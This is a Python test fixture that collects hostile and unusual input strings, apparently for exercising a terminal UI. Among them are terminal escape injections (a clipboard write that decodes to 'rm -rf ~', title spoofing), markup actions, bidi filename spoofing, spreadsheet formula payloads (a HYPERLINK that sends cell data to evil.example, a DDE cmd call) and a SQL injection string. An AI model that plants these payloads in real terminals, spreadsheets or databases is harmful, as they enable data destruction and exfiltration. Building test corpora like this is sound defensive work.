"""What strangers write into names, subjects and letters when they mean harm, or only live elsewhere. Characters that no
source file may hold stand as escapes."""

from __future__ import annotations

ESCAPES = {
    "clear": "before\x1b[2J\x1b[Hafter",
    "colour": "\x1b[31mred\x1b[0m",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07copied",
    "window title": "\x1b]0;pwned\x07\x1b]2;pwned\x1b\\",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "device control": '\x1bP$q"p\x1b\\',
    "reports": "\x1b[6n\x1b[c\x1b[>q\x05",
    "alternate screen": "\x1b[?1049l\x1b[?25h\x1bc",
    "eight bit": "\x9b31mred\x9d52;c;cm0=\x9c\x90q\x85\x84",
    "bells and nul": "a\x00b\x07c\x08d\x0be\x0cf\x7fg",
    "lines": "one\r\ntwo\rthree\nfour\u2028five\u2029six\x85seven\ttabbed",
}
MARKUP = {
    "action": "[@click=app.quit]press[/]",
    "closing": "[/]",
    "closing bold": "[/b]",
    "unclosed": "[bold red]never closed",
    "bracket": "[",
    "escaped": "\\[bold]x\\[/bold] [[]] ]][[",
    "variable": "$primary {name} {0} %s %(x)s",
    "link": "[link=https://evil.example]x[/link]",
}
LETTERS = {
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "bidi override": "invoice\u202egpj.exe\u202c \u2066isolate\u2069 \u200f\u200e\u061c",
    "zero width": "ad\u200bmin\u200c\u200d\ufeff\u2060\u00ad",
    "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 and \U0001f3f3\ufe0f\u200d\U0001f308",
    "flags and tones": "\U0001f1e9\U0001f1ea\U0001f1ef\U0001f1f5 \U0001f44d\U0001f3fd \u2764\ufe0f \u0031\ufe0f\u20e3",
    "wide": "\u682a\u5f0f\u4f1a\u793e\u682a\u5f0f\u4f1a\u793e\u682a\u5f0f\u4f1a\u793e\uff21\uff22\uff23\u3000\ud55c\uae00",
    "half wide": "\uff76\uff9e\uff77\uff9e\u1100\u1161\u11a8",
    "combining": "e\u0301" + "z" + "\u0335" * 40 + "algo",
    "tags": "x\U000e0041\U000e0042\U000e007f\ufe0f\U000e0100",
    "lone halves": "a\ud800b\udfffc",
    "private": "\ue0b0\uf8ff\U000f0000\U0010ffff\ufffe\uffff",
    "indic": "\u0915\u094d\u0937\u093f \u0e01\u0e33 \u0f40\u0fb5",
}
CELLS = {
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab formula": "\t=1+1",
    "quotes": '"; DROP TABLE campaign; --',
}
EMPTY = {"nothing": "", "spaces": "   ", "newline": "\n"}
LONG = {"a megabyte": "S" * 1_000_000, "a long word": "\u6f22" * 5_000, "many lines": "x\n" * 5_000}

CORPUS: dict[str, str] = ESCAPES | MARKUP | LETTERS | CELLS | EMPTY | LONG
